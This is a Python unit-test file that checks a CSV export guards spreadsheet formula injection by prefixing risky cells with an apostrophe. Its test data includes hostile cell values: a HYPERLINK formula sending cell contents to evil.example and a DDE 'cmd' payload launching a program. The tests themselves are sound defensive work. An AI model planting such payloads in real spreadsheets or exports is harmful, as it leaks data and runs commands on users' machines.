"""CSV that a spreadsheet shows and never runs, and that a program reads back as it was."""

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.exports.rows import a_row, an_empty_row, as_json, read_csv, written
from trucewatch.exports.formulas import guard, unguard

IN_FRONT = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    " \n",
    "\N{NO-BREAK SPACE}",
    "\N{ZERO WIDTH SPACE}",
    "\ufeff",
    '"',
    "'",
    "\x00",
)
FORMULAS = (
    "=1+1", "+1", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("https://evil.example?"&A1;"more")', "=cmd|' /C calc'!A0",
    "\N{FULLWIDTH EQUALS SIGN}1+1", "\N{FULLWIDTH PLUS SIGN}1", "\N{FULLWIDTH HYPHEN-MINUS}1+1", "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{SMALL EQUALS SIGN}1", "\N{SMALL HYPHEN-MINUS}1", "\N{MINUS SIGN}1",
)  # fmt: skip
CELLS = [front + formula for front, formula in itertools.product(IN_FRONT, FORMULAS)]
HARMLESS = (
    "",
    "La trêve",
    "1+1=2",
    "48.0000,-2.5123",
    "-1.6700,29.2200; -4.3300,15.3000",
    "a\tb",
    "l'accord",
    "'48",
    "…-",
    "– dash",
)

SIGNS = {*"=+-@", "\N{FULLWIDTH EQUALS SIGN}"}
SUSPICIOUS = st.text(
    alphabet=st.sampled_from([*SIGNS, "\t", "\r", "\n", "'", '"', " ", "\N{ZERO WIDTH SPACE}", "1", "a", ",", ";"])
)


def test_more_than_a_hundred_cells_are_tried():
    assert len(set(CELLS)) > 100


@pytest.mark.parametrize("cell", CELLS, ids=ascii)
def test_a_cell_that_would_be_run_begins_with_an_apostrophe(cell):
    (row,) = read_csv(written("csv", [a_row(evidence=cell)]))
    assert row["evidence"] == f"'{cell}"
    assert unguard(row["evidence"]) == cell


@pytest.mark.parametrize("cell", ["\tx", "\rx", "\nx", "\t", "'\tx"])
def test_so_does_one_that_begins_with_a_tab_or_a_line_break(cell):
    assert guard(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_stay_as_they_are(cell):
    assert guard(cell) == cell


@given(SUSPICIOUS)
def test_guarding_can_always_be_taken_back(cell):
    assert unguard(guard(cell)) == cell


@given(SUSPICIOUS)
def test_no_cell_in_the_file_begins_like_a_formula(cell):
    assert guard(cell).lstrip(" \t\r\n\N{ZERO WIDTH SPACE}")[:1] not in SIGNS


def test_every_row_comes_back():
    rows = [a_row(), a_row(mention_id="m3", in_title=True, evidence='He said "no",\r\nthen; left'), an_empty_row()]
    words = {True: "true", False: "false", None: ""}
    assert read_csv(written("csv", rows)) == [
        {
            **{name: "" if value is None else str(value) for name, value in as_json(row).items()},
            "in_title": words[row["in_title"]],
        }
        for row in rows
    ]


def test_the_file_is_what_excel_opens():
    file = written("csv", [a_row()])
    assert file.startswith(b"\xef\xbb\xbfmention_id,published_at,")
    assert file.count(b"\r\n") == 2
    assert written("csv", []) == file.partition(b"\r\n")[0] + b"\r\n"


def test_numbers_dates_and_truth_are_never_guarded():
    (row,) = read_csv(written("csv", [a_row(archive_offset=-5)]))
    assert (row["archive_offset"], row["in_title"], row["event_on"]) == ("-5", "false", "2026-03-20")
